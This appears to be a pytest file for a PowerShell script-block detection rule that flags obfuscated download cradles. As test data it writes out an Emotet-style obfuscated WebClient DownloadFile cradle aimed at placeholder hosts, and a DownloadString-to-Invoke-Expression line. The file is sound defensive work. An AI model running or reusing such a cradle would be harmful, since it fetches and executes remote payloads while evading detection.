"""The obfuscated_cradle rule (analytics.script_block_cradles) on script blocks of our own making: a download
cradle whose call or URLs appear only once its pieces are joined fires; a vendor's plain downloader, an
obfuscated script that downloads nothing and a URL split once for line length do not."""

from __future__ import annotations

from analytics.script_block_cradles import cradle_hit, hidden_cradle, joined


def pieces(text: str, size: int = 3) -> str:
    """``text`` written as Emotet writes it: quoted pieces joined with ``+``."""
    return "(" + "+".join(f"'{text[i:i + size]}'" for i in range(0, len(text), size)) + ")"


EMOTET_SHAPED = (
    "$w=&(" + pieces("new-object") + ") net.webclient;"
    "$u=" + pieces("http://a.example/x/*http://b.example/y/*https://c.example/z/") + ".\"S`Plit\"([char]42);"
    "foreach($x in $u){try{$w.\"d`OWN`load`FIlE\"($x, $env:temp+([char]92)+'a.exe');break}catch{}}"
)


def test_an_emotet_shaped_block_fires_and_names_its_urls():
    words = hidden_cradle(EMOTET_SHAPED)
    assert words is not None
    assert "downloadfile" in words and "3 URL(s)" in words and "http://a.example" in words


def test_the_hit_carries_the_event_and_a_subject_of_the_joined_text():
    hit = cradle_hit("ws-1", "e-4104", 5.0, {"event.code": "4104", "powershell.script_block_text": EMOTET_SHAPED})
    assert hit is not None and (hit.rule, hit.event_id, hit.host) == ("obfuscated_cradle", "e-4104", "ws-1")
    assert hit.subject.startswith("script|") and "http://b.example" in hit.subject


def test_a_4103_payload_is_read_too():
    hit = cradle_hit("ws-1", "e-4103", 5.0, {"event.code": "4103", "powershell.payload": EMOTET_SHAPED})
    assert hit is not None and "pipeline (4103)" in hit.detail


def test_a_vendors_plain_downloader_is_no_hit():
    plain = ("$c = New-Object System.Net.WebClient\n"
             "$c.DownloadFile('https://downloads.vendor.example/agent/' + $version + '/setup.exe', $target)\n")
    assert hidden_cradle(plain) is None


def test_obfuscation_without_a_download_is_no_hit():
    assert hidden_cradle("$a=" + pieces("Get-ChildItem C:\\Windows\\Temp -Recurse | Remove-Item") + ";iex $a") is None


def test_a_url_split_once_for_line_length_is_no_hit():
    split = ("(New-Object Net.WebClient).DownloadString('https://intranet.example/scripts/' +\n"
             "    'inventory.ps1') | Invoke-Expression")
    assert hidden_cradle(split) is None


def test_hidden_words_without_dense_obfuscation_are_no_hit():
    # one backtick in the call, nothing else: below every density threshold
    assert hidden_cradle("(New-Object Net.WebClient).Down`loadString('https://x.example/a')") is None


def test_joined_undoes_char_codes_quotes_and_backticks():
    assert joined("'d'+'o'+\"w`n\"+[char]108+'oad'") == "download"
